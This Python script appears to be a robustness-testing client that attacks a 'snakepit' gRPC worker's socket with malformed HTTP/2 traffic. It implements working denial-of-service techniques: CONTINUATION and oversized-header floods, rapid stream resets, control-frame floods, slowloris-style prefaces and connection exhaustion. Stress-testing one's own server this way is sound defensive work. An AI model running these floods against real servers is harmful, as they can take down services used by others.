"""Attacks a worker's socket with raw bytes: hostile_client.py ADDRESS MODE SECONDS.

Prints how often it has done so. A connection that the server closes is not a failure of the
client.
"""

from __future__ import annotations

import os
import resource
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = range(5)
PING, WINDOW_UPDATE, CONTINUATION = 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFIX = 127
MOST_CONNECTIONS = 2000


def frame(kind: int, flags: int, stream: int, data: bytes = b"") -> bytes:
    head = struct.pack(">I", len(data))[1:] + bytes((kind, flags)) + struct.pack(">I", stream)
    return head + data


def field(name: str, value: str) -> bytes:
    """HPACK's literal field without indexing, not Huffman-coded."""
    return b"\0" + _string(name.encode()) + _string(value.encode())


def _string(data: bytes) -> bytes:
    """HPACK's string: its length as an integer with a 7-bit prefix."""
    if len(data) < PREFIX:
        return bytes((len(data),)) + data
    length, encoded = len(data) - PREFIX, bytes((PREFIX,))
    while length > PREFIX:
        encoded += bytes((length & PREFIX | 128,))
        length >>= 7
    return encoded + bytes((length,)) + data


def request(path: str = "/snakepit.SnakepitBridge/Execute") -> bytes:
    pseudo = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "localhost"}
    usual = {"te": "trailers", "content-type": "application/grpc"}
    return b"".join(field(name, value) for name, value in {**pseudo, **usual}.items())


class Attack:
    def __init__(self, address: str, seconds: float) -> None:
        self.address = address
        self.end = time.monotonic() + seconds
        self.kept: list[socket.socket] = []
        self.done = 0
        self.refused = 0

    def connect(self) -> socket.socket:
        kind, _, rest = self.address.partition(":")
        if kind == "unix":
            connection = socket.socket(socket.AF_UNIX)
            connection.connect(rest)
        else:
            host, _, port = rest.rpartition(":")
            connection = socket.create_connection((host, int(port)))
        connection.settimeout(5)
        return connection

    def going(self) -> bool:
        return time.monotonic() < self.end

    def repeat(self, once: Callable[[socket.socket], None]) -> None:
        """Runs `once` on one connection after another."""
        while self.going():
            try:
                with self.connect() as connection:
                    once(connection)
                self.done += 1
            except OSError:
                self.refused += 1
                time.sleep(0.002)

    def flood(self, data: bytes, first: bytes = b"", *, read: bool = True) -> None:
        """Sends the same bytes for as long as a connection lives, after a preface and `first`."""

        def once(connection: socket.socket) -> None:
            if read:
                self.drain(connection)
            else:
                connection.settimeout(0.5)
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + first)
            while self.going():
                connection.sendall(data)
                self.done += 1

        self.repeat(once)

    def drain(self, connection: socket.socket) -> None:
        def read() -> None:
            try:
                while connection.recv(65536):
                    pass
            except OSError:
                pass

        threading.Thread(target=read, daemon=True).start()

    def streams(self, make: Callable[[int], bytes], at_once: int) -> None:
        """Sends the frames that `make` returns for one stream id after another."""

        def once(connection: socket.socket) -> None:
            self.drain(connection)
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
            stream = 1
            while self.going() and stream < 2**30:
                connection.sendall(b"".join(make(stream + 2 * n) for n in range(at_once)))
                stream += 2 * at_once
                self.done += at_once

        self.repeat(once)


def _send(data: Callable[[], bytes]) -> Callable[[socket.socket], None]:
    return lambda connection: connection.sendall(data())


def _message(command: bytes, args: bytes = b"") -> bytes:
    """An ExecuteRequest: field 1 is the command."""
    data = b"\x0a" + bytes((len(command),)) + command + args
    return b"\0" + struct.pack(">I", len(data)) + data


def slow(attack: Attack) -> None:
    """Many connections, each sending its preface byte by byte."""
    connections = [attack.connect() for _ in range(200)]
    preface = PREFACE + frame(SETTINGS, 0, 0)
    pause = max(attack.end - time.monotonic(), 0) / len(preface)
    for byte in preface:
        for connection in connections:
            connection.sendall(bytes((byte,)))
        attack.done += 1
        time.sleep(pause)


def streams_unread(attack: Attack) -> None:
    """Streams whose chunks are never read, with a window of zero."""
    attack.kept.append(attack.connect())
    no_window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    # The argument `count` of a million, as an entry of a protobuf map.
    message = _message(b"counted", b"\x12\x10\x0a\x05count\x12\x071000000")
    attack.kept[0].sendall(PREFACE + no_window)
    for n in range(50):
        stream = 2 * n + 1
        head = frame(
            HEADERS, END_HEADERS, stream, request("/snakepit.SnakepitBridge/ExecuteStream")
        )
        attack.kept[0].sendall(head + frame(DATA, END_STREAM, stream, message))
        attack.done += 1
    while attack.going():
        time.sleep(0.05)


def connections(attack: Attack, first: bytes) -> None:
    """As many connections as possible, kept open."""
    while attack.going():
        try:
            attack.kept.append(attack.connect())
            if first:
                attack.kept[-1].sendall(first)
            attack.done += 1
        except OSError:
            attack.refused += 1
            time.sleep(0.01)
        if len(attack.kept) >= MOST_CONNECTIONS:
            time.sleep(0.01)


def headers(stream: int) -> bytes:
    """A request whose headers are 900 KiB long, each block ended in time."""
    block = request() + b"".join(field(f"x-{n}", "v" * 16000) for n in range(56))
    parts = [block[n : n + 16000] for n in range(0, len(block), 16000)]
    frames = [frame(HEADERS, 0, stream, parts[0])]
    frames += [frame(CONTINUATION, 0, stream, part) for part in parts[1:-1]]
    return b"".join(frames) + frame(CONTINUATION, END_HEADERS, stream, parts[-1])


def reset_call(stream: int) -> bytes:
    head = frame(HEADERS, END_HEADERS, stream, request())
    call = frame(DATA, END_STREAM, stream, _message(b"ping"))
    return head + call + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


HEADER_LINES = b"\0\1x\1y" * 3000
MODES: dict[str, Callable[[Attack], None]] = {
    "garbage": lambda attack: attack.repeat(_send(lambda: os.urandom(3000))),
    "http1": lambda attack: attack.repeat(_send(lambda: b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")),
    "garbage_after_preface": lambda attack: attack.repeat(
        _send(lambda: PREFACE + frame(SETTINGS, 0, 0) + os.urandom(3000))
    ),
    "continuation": lambda attack: attack.flood(
        frame(CONTINUATION, 0, 1, HEADER_LINES), frame(HEADERS, 0, 1, request())
    ),
    "headers": lambda attack: attack.streams(headers, 1),
    "settings": lambda attack: attack.flood(
        frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000
    ),
    "settings_unread": lambda attack: attack.flood(frame(SETTINGS, 0, 0) * 1000, read=False),
    "pings": lambda attack: attack.flood(frame(PING, 0, 0, b"12345678") * 1000),
    "pings_unread": lambda attack: attack.flood(frame(PING, 0, 0, b"12345678") * 1000, read=False),
    "resets": lambda attack: attack.streams(reset_call, 100),
    "priorities": lambda attack: attack.flood(frame(PRIORITY, 0, 3, b"\0\0\0\1\x10") * 1000),
    "empty_data": lambda attack: attack.flood(
        frame(DATA, 0, 1) * 1000, frame(HEADERS, END_HEADERS, 1, request())
    ),
    "window_updates": lambda attack: attack.flood(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 1000),
    "slow": slow,
    "streams_unread": streams_unread,
    "connections": lambda attack: connections(attack, b""),
    "connections_http2": lambda attack: connections(attack, PREFACE + frame(SETTINGS, 0, 0)),
}


def main() -> None:
    address, mode, seconds = sys.argv[1:]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = Attack(address, float(seconds))
    try:
        MODES[mode](attack)
    except OSError as error:
        print(f"ended by the server: {error}", end="; ")
    print(f"{attack.done} times, {attack.refused} refused")


main()
